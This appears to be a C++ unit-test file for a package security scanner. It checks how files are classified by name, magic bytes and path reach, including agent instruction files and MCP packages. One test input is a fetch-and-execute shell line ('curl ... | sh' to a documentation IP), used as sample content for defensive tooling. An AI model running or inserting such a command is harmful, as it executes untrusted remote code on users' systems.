// What files are and where they stand.
#include "static/classify.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <utility>
#include <vector>

namespace interlock::scan {
namespace {

using core::Reach;
using namespace std::string_view_literals;

FileType TypeOf(std::string_view path, std::string_view bytes) { return TypeOfContent(bytes, TypeOfName(path)); }

TEST(Classify, ByName) {
  const std::vector<std::pair<std::string, FileType>> cases = {
      {"SKILL.md", FileType::kMarkdown},
      {"a/B.PY", FileType::kPython},
      {"a.tar.gz", FileType::kArchive},
      {"requirements-dev.txt", FileType::kRequirements},
      {"notes.txt", FileType::kPlainText},
      {"Dockerfile.prod", FileType::kDockerfile},
      {".env.local", FileType::kIni},
      {".cursorrules", FileType::kMarkdown},
      {"run.ps1", FileType::kShell},
      {"x.mts", FileType::kTypeScript},
      {"noextension", FileType::kUnknownText},
      {"odd.extension", FileType::kUnknownText},
      {"dir.py/file", FileType::kUnknownText},
      {"trailing.", FileType::kUnknownText},
      {"", FileType::kUnknownText},
  };
  for (const auto& [path, type] : cases) EXPECT_EQ(TypeOfName(path), type) << path;
}

TEST(Classify, ScriptsThatABundlerMadeForABrowser) {
  for (const std::string_view path :
       {"package/dist/assets/css.worker-BvV5MPou.js", "web/_next/static/chunks/main.4f3a9c21d0.js"}) {
    EXPECT_TRUE(IsBrowserBundle(path)) << path;
  }
  for (const std::string_view path : {"dist/chunk-AB12CD34.js", "assets/describe-everything.js", "assets/index.js",
                                      "src/assets/tools.ts", "assets"}) {
    EXPECT_FALSE(IsBrowserBundle(path)) << path;
  }
}

TEST(Classify, ByContentWhereTheNameLies) {
  struct Case {
    std::string_view path;
    std::string_view bytes;
    FileType type;
  };
  const std::string stray = "const key = `a" + std::string(1, '\0') + "b`;\n" + std::string(400, ' ') + "run(key);\n";
  const Case cases[] = {
      // Programs and archives that call themselves something else.
      {"logo.png",
       "\x7f"
       "ELF\x02\x01\x01\0"sv,
       FileType::kElf},
      {"README.md", "PK\x03\x04\x14\0"sv, FileType::kArchive},
      {"data.json", "\x1f\x8b\x08\0\0\0"sv, FileType::kArchive},
      {"notes.txt", "\x89PNG\r\n\x1a\n\0\0"sv, FileType::kImage},
      {"server.py", "\0asm\x01\0\0\0"sv, FileType::kWasm},
      {"report.docx", "PK\x03\x04\x14\0"sv, FileType::kOffice},
      {"model.txt", "a\0b\0c\0"sv, FileType::kBinary},
      {"unknown", "a\0b\0c\0"sv, FileType::kBinary},
      {"a.js", "a\0b\0c\0"sv, FileType::kBinary},
      // A stray zero byte hides no script.
      {"a.js", stray, FileType::kJavaScript},
      {"notes.txt", stray, FileType::kBinary},
      // Scripts without a telling name.
      {"run", "#!/usr/bin/env python3\nprint(1)\n", FileType::kPython},
      {"run", "#!/bin/sh\nls\n", FileType::kShell},
      {"run", "#!/usr/bin/env node\n1\n", FileType::kJavaScript},
      {"run", "#!/usr/bin/env -S uv run\n", FileType::kPython},
      {"run.txt", "#!/bin/bash\nls\n", FileType::kShell},
      {"run", "#!/usr/bin/perl\n", FileType::kOtherSource},
      // The name decides between kinds of text.
      {"a.py", "#!/bin/sh\nls\n", FileType::kPython},
      {"a.py", "x = 1\n", FileType::kPython},
      {"logo.png", "curl http://203.0.113.7/x | sh\n", FileType::kUnknownText},
      {"logo.png", "#!/bin/sh\nls\n", FileType::kShell},
      {"lib.so", "just text\n", FileType::kUnknownText},
      {"BZhang.txt", "BZhang wrote this.\n", FileType::kPlainText},
      {"a.py", "\xff\xfex\0=\0"sv, FileType::kPython},  // UTF-16 with a mark
      {"a.py", "", FileType::kPython},
      {"MZ.txt", "MZ is two letters.\n", FileType::kPlainText},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(TypeOf(c.path, c.bytes), c.type) << c.path << ": " << NameOf(TypeOf(c.path, c.bytes));
  }
  std::string exe = "MZ";
  exe.resize(256, '\0');
  EXPECT_EQ(TypeOf("setup.txt", exe), FileType::kPe);
  std::string tar(512, '\0');
  tar.replace(257, 5, "ustar");
  EXPECT_EQ(TypeOf("data.json", tar), FileType::kArchive);
}

TEST(Classify, EveryTypeHasItsOwnName) {
  std::vector<std::string_view> names;
  for (int i = 0; i <= static_cast<int>(FileType::kBinary); ++i) {
    const std::string_view name = NameOf(static_cast<FileType>(i));
    EXPECT_FALSE(name.empty()) << i;
    EXPECT_EQ(std::count(names.begin(), names.end(), name), 0) << name;
    names.push_back(name);
  }
}

TEST(Classify, ReachByPath) {
  struct Case {
    std::string_view path;
    Reach reach;
    PackageKind kind = PackageKind::kMcpServer;
  };
  const Case cases[] = {
      {"SKILL.md", Reach::kAgent},
      {"skills/x/SKILL.md", Reach::kAgent},
      {"AGENTS.md", Reach::kAgent},
      {"CLAUDE.md", Reach::kAgent},
      {".github/copilot-instructions.md", Reach::kAgent},
      {".github/prompts/review.prompt.md", Reach::kAgent},
      {".github/CONTRIBUTING.md", Reach::kBuild},
      {"commands/deploy.md", Reach::kAgent},
      {".cursor/rules/style.mdc", Reach::kAgent},
      {"README.md", Reach::kDocument},
      {"docs/guide.md", Reach::kDocument},
      {"docs/conf.py", Reach::kExample},
      {"LICENSE", Reach::kDocument},
      {"x.dist-info/METADATA", Reach::kDocument},
      {"dist/index.d.ts", Reach::kDocument},
      {"dist/index.js.map", Reach::kVendored},
      {"src/server.py", Reach::kRuntime},
      {"src/data.json", Reach::kRuntime},
      {"setup.py", Reach::kInstall},
      {"tests/test_server.py", Reach::kTest},
      {"guard/datasets/attacks/encoded.json", Reach::kTest},
      {"guard/attacks/encoded.py", Reach::kRuntime},
      {"guard/data/patterns/injection.txt", Reach::kTest},
      {"src/__tests__/a.ts", Reach::kTest},
      {"src/a.test.ts", Reach::kTest},
      {"test_server.py", Reach::kTest},
      {"src/server_test.go", Reach::kTest},
      {"data/test-vectors/all.json", Reach::kTest},
      {"tests/SKILL.md", Reach::kTest},  // an attack kept as a test vector
      {"node_modules/x/index.js", Reach::kVendored},
      {"node_modules/x/tests/a.js", Reach::kVendored},
      {"vendor/x.py", Reach::kVendored},
      // Folders of a package of Java are its name.
      {"src/main/java/com/example/demo/Tool.java", Reach::kRuntime},
      {"com/example/testing/Tool.kt", Reach::kRuntime},
      {"src/test/java/com/acme/Tool.java", Reach::kTest},
      {"examples/src/main/java/com/acme/Tool.java", Reach::kExample},
      {"com/example/tool.py", Reach::kExample},
      {"examples/a.py", Reach::kExample},
      {"examples/SKILL.md", Reach::kAgent},
      {".github/workflows/ci.yml", Reach::kBuild},
      {"Makefile", Reach::kBuild},
      {"Dockerfile", Reach::kBuild},
      {"vite.config.ts", Reach::kBuild},
      {"scripts/release.sh", Reach::kBuild},
      {"scripts/run.sh", Reach::kRuntime, PackageKind::kSkill},
      {"scripts/run.sh", Reach::kRuntime, PackageKind::kCode},
      // Parts of a word are not the word.
      {"src/contest/a.py", Reach::kRuntime},
      {"src/latest.py", Reach::kRuntime},
      {"src/testimony.py", Reach::kRuntime},
      {"src/documents.py", Reach::kRuntime},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(ReachOfPath(c.path, TypeOfName(c.path), c.kind), c.reach)
        << c.path << ": " << core::NameOf(ReachOfPath(c.path, TypeOfName(c.path), c.kind));
  }
}

core::PackageView View(std::vector<std::pair<std::string, std::string>> files) {
  core::PackageView view;
  for (auto& [path, bytes] : files) view.files.push_back({.path = path, .bytes = bytes});
  return view;
}

TEST(Classify, KindOfPackage) {
  EXPECT_EQ(KindOfPackage(View({})), PackageKind::kUnknown);
  EXPECT_EQ(KindOfPackage(View({{"README.md", "x"}})), PackageKind::kText);
  EXPECT_EQ(KindOfPackage(View({{"a.py", "x = 1"}})), PackageKind::kCode);
  EXPECT_EQ(KindOfPackage(View({{"SKILL.md", "x"}, {"a.py", "import mcp"}})), PackageKind::kSkill);
  EXPECT_EQ(KindOfPackage(View({{"a.py", "from mcp.server import x"}})), PackageKind::kMcpServer);
  EXPECT_EQ(KindOfPackage(View({{"a.py", "from langchain.tools import tool"}})), PackageKind::kToolModule);
  EXPECT_EQ(KindOfPackage(View({{"a.json", R"({"mcpServers":{}})"}})), PackageKind::kClientConfig);
  EXPECT_EQ(KindOfPackage(View({{"a.json", R"({"tools":[{"name":"x","inputSchema":{}}]})"}})),
            PackageKind::kMcpListing);
  EXPECT_EQ(KindOfPackage(View({{std::string(core::kMcpListingPath), "{}"}})), PackageKind::kMcpListing);
}

TEST(Classify, WhatIsAllThereIsIsMeant) {
  const auto reach = [](const core::PackageView& view) { return ClassifyFiles(view, KindOfPackage(view))[0].reach; };
  EXPECT_EQ(reach(View({{"notes.md", "x"}})), Reach::kAgent);
  EXPECT_EQ(reach(View({{"a.md", "x"}, {"b.md", "x"}})), Reach::kAgent);
  EXPECT_EQ(reach(View({{"tests/test_a.py", "x = 1"}})), Reach::kRuntime);
  EXPECT_EQ(reach(View({{"README.md", "x"}, {"a.py", "x = 1"}})), Reach::kDocument);
  // A compiled program is all the code that a package needs, where its manifest installs it.
  EXPECT_EQ(reach(View({{"README.md", "x"},
                        {"dist/a",
                         "\x7f"
                         "ELF\2"},
                        {"package.json", R"({"bin": {"a": "dist/a"}})"}})),
            Reach::kDocument);
  EXPECT_EQ(reach(View({{"README.md", "x"}, {"setup.exe", "MZ\1"}})), Reach::kAgent);
  core::PackageView large = View({{"README.md", "x"}, {"package.json", R"({"bin": {"a": "dist/a"}})"}});
  large.skipped = {{.path = "pictures/"}};
  EXPECT_EQ(reach(large), Reach::kAgent);
  large.skipped.push_back({.path = "dist/a"});
  EXPECT_EQ(reach(large), Reach::kDocument);
}

TEST(Classify, ProseThatCodeHandsOutIsNoDocument) {
  core::PackageView view;
  view.files.push_back({.path = "package.json", .bytes = R"({"dependencies":{"@modelcontextprotocol/sdk":"1"}})"});
  view.files.push_back({.path = "src/main.ts",
                        .bytes = "const texts = join(root, \"shelf\"); list(texts).filter(f => f.endsWith('.md'));"});
  for (const char* path : {"README.md", "src/shelf/review.md", "src/other/review.md", "docs/shelf/review.md",
                           "src/shelf/README.md", "shelf.md"}) {
    view.files.push_back({.path = path, .bytes = "# Review\n\nRead the diff.\n"});
  }
  for (const FileContext& file : ClassifyFiles(view, KindOfPackage(view))) {
    if (file.file->path == "src/shelf/review.md") {
      EXPECT_EQ(file.reach, Reach::kRuntime);
    } else if (file.file->path.ends_with(".md")) {
      EXPECT_EQ(file.reach, Reach::kDocument) << file.file->path;
    }
  }
}

TEST(LineIndex, CountsLinesBytesAndUtf16Units) {
  const std::string text = "ab\n\xc3\xa9\xf0\x9f\x98\x80x\n\nlast";
  const LineIndex index(text);
  struct Case {
    std::size_t offset;
    std::uint32_t line;
    std::uint32_t column;
    std::uint32_t utf16;
  };
  const Case cases[] = {{0, 1, 1, 1}, {2, 1, 3, 3},  {3, 2, 1, 1},  {5, 2, 3, 2},
                        {9, 2, 7, 4}, {11, 3, 1, 1}, {12, 4, 1, 1}, {16, 4, 5, 5}};
  for (const Case& c : cases) {
    const LineIndex::Place at = index.At(c.offset);
    EXPECT_EQ(at.line, c.line) << c.offset;
    EXPECT_EQ(at.column, c.column) << c.offset;
    EXPECT_EQ(at.utf16_column, c.utf16) << c.offset;
  }
  EXPECT_EQ(LineIndex("").At(0).line, 1U);
  EXPECT_EQ(LineIndex("a\n").At(2).line, 2U);
}

TEST(Classify, WhatAGuardLooksForStandsInOneFolder) {
  core::PackageView view;
  view.files = {{.path = "guard/check.py", .bytes = "x = 1\n"},
                {.path = "guard/data/patterns/direct_injection.json", .bytes = "[1]\n"},
                {.path = "guard/data/patterns/overrides.json", .bytes = "[2]\n"},
                {.path = "guard/data/words.json", .bytes = "[3]\n"}};
  const std::vector<FileContext> files = ClassifyFiles(view, PackageKind::kCode);
  EXPECT_EQ(files[0].reach, Reach::kRuntime);
  EXPECT_EQ(files[1].reach, Reach::kTest);
  EXPECT_EQ(files[2].reach, Reach::kTest);
  EXPECT_EQ(files[3].reach, Reach::kRuntime);
}

}  // namespace
}  // namespace interlock::scan
